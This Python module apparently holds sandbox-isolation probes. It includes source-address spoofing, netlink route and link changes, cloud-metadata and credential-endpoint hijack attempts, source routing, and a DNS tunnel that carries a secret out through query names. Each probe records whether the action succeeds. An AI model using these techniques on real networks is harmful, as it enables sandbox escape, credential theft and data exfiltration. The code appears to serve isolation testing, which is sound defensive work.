"""Attacks on the network with what a sandbox has: ordinary sockets."""


def send(host, port, text):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return failing(lambda: s.sendto(text.encode(), (host, int(port))))


def send_as(pretended, host, port, text):
    """With another's address, by every option that an ordinary socket has for it."""
    found = {}
    for name, option in (("freebind", 15), ("transparent", 19)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            found[name] = [failing(lambda: s.setsockopt(0, option, 1))["how"],
                           failing(lambda: s.bind((pretended, 0)))["how"],
                           failing(lambda: s.sendto(text.encode(), (host, int(port))))["how"]]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:  # IP_PKTINFO names a source for one datagram
        ancillary = [(0, 8, struct.pack("I4s4s", 0, socket.inet_aton(pretended), bytes(4)))]
        found["packet info"] = failing(lambda: s.sendmsg([text.encode()], ancillary, 0, (host, int(port))))["how"]
    return found


def _route_request(kind, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
        s.bind((0, 0))
        s.send(struct.pack("IHHII", 16 + len(body), kind, 1 | 4 | 0x400, 1, 0) + body)
        answer = s.recv(65536)
        code = -struct.unpack("i", answer[16:20])[0]
        return errno.errorcode.get(code) if code else None


def changing_own_links(link_name, address):
    """Address, link, route and neighbour by netlink: what each says."""
    index = socket.if_nametoindex(link_name)
    attribute = lambda kind, data: struct.pack("HH", 4 + len(data), kind) + data
    packed = socket.inet_aton(address)
    return {
        "address": _route_request(20, struct.pack("BBBBI", 2, 32, 0, 0, index) + attribute(2, packed)),
        "hardware address": _route_request(16, struct.pack("BxHiII", 0, 0, index, 0, 0) + attribute(1, bytes([2, 0, 0, 0, 0, 9]) + b"\0\0")),
        "promiscuous": _route_request(16, struct.pack("BxHiII", 0, 0, index, 0x100, 0x100)),
        "route": _route_request(24, struct.pack("BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0) + attribute(1, packed) + attribute(4, struct.pack("I", index))),
        "neighbour": _route_request(28, struct.pack("BxHiHBB", 2, 0, index, 128, 0, 1) + attribute(1, packed) + attribute(2, bytes(6))),
        "rule": _route_request(32, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 1, 0)),
        "new link": _route_request(16, struct.pack("BxHiII", 0, 0, 0, 0, 0) + attribute(3, b"dum0\0\0\0\0") + attribute(18, attribute(1, b"dummy\0\0\0"))),
    }


def shape_of_the_network():
    run = lambda *a: subprocess.run(("ip",) + a, capture_output=True, text=True).stdout
    return [run("-o", "address"), run("route", "show", "table", "all"), run("neighbour"), run("-o", "link"), run("rule")]


def reaching(patience, *targets):
    """What comes of connecting by TCP: target -> `reached` or the error."""
    def attempt(target):
        host, port = target.rsplit(":", 1)
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(float(patience))
            try:
                s.connect(socket.getaddrinfo(host, int(port), family, socket.SOCK_STREAM)[0][4])
                return "reached"
            except TimeoutError:
                return "silence"
            except OSError as error:
                return errno.errorcode.get(error.errno, str(error))
    return dict(zip(targets, at_once(attempt, targets)))


def reaching_by_udp(*targets):
    """Which of these give any answer to a question, a version request or plain text."""
    answered = []
    sockets = {}
    for target in targets:
        host, port = target.rsplit(":", 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setblocking(False)
        s.connect((host, int(port)))
        sockets[s] = target
        for payload in (question("kakoi.example"), b"\x1b" + bytes(47), b"hello"):
            try:
                s.send(payload)
            except OSError:
                pass
    end = time.monotonic() + 1.5
    while sockets and time.monotonic() < end:
        for s in select.select(list(sockets), [], [], max(0, end - time.monotonic()))[0]:
            try:
                s.recv(4096)
                answered.append(sockets.pop(s))
            except OSError:  # refused, which isn't an answer
                pass
    return answered


def question(name, kind=1, number=None):
    labels = b"".join(bytes([len(l)]) + l for l in (p.encode() for p in name.split(".") if p))
    return struct.pack("!HHHHHH", number or int.from_bytes(os.urandom(2), "big"), 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)


def ask(server, name, kind=1, tcp=False, patience=20.0):
    """One question: the answer's code, its count of answers and its bytes; None without an answer."""
    asked = question(name, kind)
    try:
        if tcp:
            with socket.create_connection((server, 53), timeout=patience) as s:
                s.sendall(struct.pack("!H", len(asked)) + asked)
                length = struct.unpack("!H", s.recv(2, socket.MSG_WAITALL))[0]
                answer = s.recv(length, socket.MSG_WAITALL)
        else:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(patience)
                s.connect((server, 53))
                s.send(asked)
                answer = s.recv(4096)
    except OSError:
        return None
    return answer[3] & 15, struct.unpack("!H", answer[6:8])[0], answer


def resolving(server, name):
    """What a resolver that answers says of a name. Asked up to ten times, as any resolver's clients do: a datagram may get lost."""
    for _ in range(10):
        found = ask(server, name, patience=2)
        if found:
            return list(found[:2])


def silent_resolvers(name, *servers):
    """What each of these says of a name, asked once: null from those that don't answer."""
    answers = at_once(lambda server: ask(server, name, patience=2), servers)
    return {server: found and list(found[:2]) for server, found in zip(servers, answers)}


def tunnel(server, domain, count):
    """Carries a secret out in names, in every type that tunnels use; tells all codes, and what an answer holds beyond them."""
    codes, answers, beyond = set(), 0, 0
    base = len(ask(server, "a." + domain, 1)[2]) - len(question("a." + domain))
    for number in range(int(count)):
        name = "%s.%d.%s" % (os.urandom(28).hex(), number, domain)
        for kind in (1, 5, 10, 15, 16, 28, 33, 65, 255):
            found = ask(server, name, kind, tcp=number % 4 == 3)
            if found is None:
                codes.add(None)
                continue
            codes.add(found[0])
            answers += found[1]
            beyond = max(beyond, len(found[2]) - len(question(name)) - base)
    return {"codes": sorted(codes, key=str), "answers": answers, "beyond": beyond}


def multicast_and_broadcast(port, text, *addresses):
    found = {}
    for address in addresses:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 32)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
            found[address] = failing(lambda: s.sendto(text.encode(), (address, int(port))))["how"]
    return found


def own_multicast():
    """The probe's control: this sandbox hears its own group."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as hear, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as say:
        hear.bind(("", 0))
        hear.settimeout(30)
        hear.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, struct.pack("4s4sI", socket.inet_aton("239.1.2.4"), bytes(4), socket.if_nametoindex("eth0")))
        say.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
        say.sendto(b"own", ("239.1.2.4", hear.getsockname()[1]))
        return outcome(hear.recv(10) == b"own")


def six(victim, port, text):
    """IPv6 in every way that a socket offers."""
    index = socket.if_nametoindex("eth0")
    found = {}
    for name, address in (("loopback", ("::1", 8888, 0, 0)), ("link-local", ("fe80::4bff:feff:ff01", int(port), 0, index)), ("unique local", ("fd00::1", int(port), 0, 0)), ("metadata", ("fd00:ec2::254", 80, 0, 0))):
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            found[name] = failing(lambda: s.connect(address))
    for name, address in (("all nodes", ("ff02::1", int(port), 0, index)), ("all routers", ("ff02::2", int(port), 0, index))):
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
            s.setsockopt(41, 17, index)  # IPV6_MULTICAST_IF
            found[name] = failing(lambda: s.sendto(text.encode(), address))
    return found


def mapped(victim, port, text):
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        return failing(lambda: s.sendto(text.encode(), ("::ffff:" + victim, int(port))))


def source_routed(target, port, text, *hops):
    """With loose and strict source routes, and with the record of the route."""
    found = {}
    for name, kind in (("loose", 131), ("strict", 137), ("record", 7), ("timestamp", 68)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            route = b"".join(map(socket.inet_aton, hops))
            options = bytes([1, kind, 3 + len(route), 4]) + route
            if kind == 68:
                options = bytes([kind, 12, 5, 0]) + bytes(8)
            found[name] = [failing(lambda: s.setsockopt(0, 4, options))["how"], failing(lambda: s.sendto(text.encode(), (target, int(port))))["how"]]
    return found


def transports(target, port, text):
    """Protocols beside TCP and UDP that a socket without powers may offer."""
    found = {}
    for name, kind, protocol in (("udp lite", 2, 136), ("sctp", 1, 132), ("sctp packets", 5, 132), ("ping", 2, 1), ("l2tp", 2, 115), ("dccp", 6, 33), ("mptcp", 1, 262)):
        try:
            with socket.socket(socket.AF_INET, kind, protocol) as s:
                s.settimeout(1)
                if kind == 2:
                    found[name] = failing(lambda: s.sendto(b"\x08\x00\x00\x00\x00\x00\x00\x00" + text.encode(), (target, int(port))))
                else:
                    found[name] = failing(lambda: s.connect((target, int(port))))
        except OSError as error:
            found[name] = outcome(False, errno.errorcode.get(error.errno))
    return found


def http(host, port, path, name, device="", method="GET"):
    """One request, with any name as Host, over any link: status and body; None without an answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        try:
            if device:
                s.setsockopt(socket.SOL_SOCKET, 25, device.encode() + b"\0")
            s.connect((host, int(port)))  # the kernel answers; who listens may take longer
            s.settimeout(30)
            s.sendall(("%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (method, path, name)).encode())
            answer = b""
            while piece := s.recv(65536):
                answer += piece
        except OSError:
            return None
        head, _, body = answer.partition(b"\r\n\r\n")
        return [int(head.split()[1]), body.decode(errors="replace")]


def taking_the_credentials_door():
    """Standing where this sandbox's own credentials are given, to be asked instead of the region."""
    found = {}
    for address in ("169.254.170.2", "0.0.0.0"):
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            found[address + " shared"] = failing(lambda: s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1))["how"]
            found[address] = failing(lambda: (s.bind((address, 80)), s.listen()))["how"]
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        found["another port"] = failing(lambda: s.bind(("169.254.170.2", 8080)))["how"]
    return found


def unix(kind, name):
    """Connects to a unix socket: `abstract` or by path."""
    address = ("\0" + name) if kind == "abstract" else name
    found = {}
    for style, flavour in (("stream", socket.SOCK_STREAM), ("datagram", socket.SOCK_DGRAM), ("packets", socket.SOCK_SEQPACKET)):
        with socket.socket(socket.AF_UNIX, flavour) as s:
            found[style] = failing(lambda: s.connect(address))["how"]
    return found


def unix_names():
    """Abstract names that this network namespace knows."""
    return [l.split()[-1] for l in open("/proc/net/unix").read().splitlines()[1:] if "@" in l]


def listening_for(port, text, seconds):
    """Whether a text arrives at a UDP port; says `ready` first."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("0.0.0.0", int(port)))
        s.settimeout(float(seconds))
        print("ready", flush=True)
        try:
            while text.encode() not in s.recv(2000):
                pass
            return outcome(True)
        except TimeoutError:
            return outcome(False)
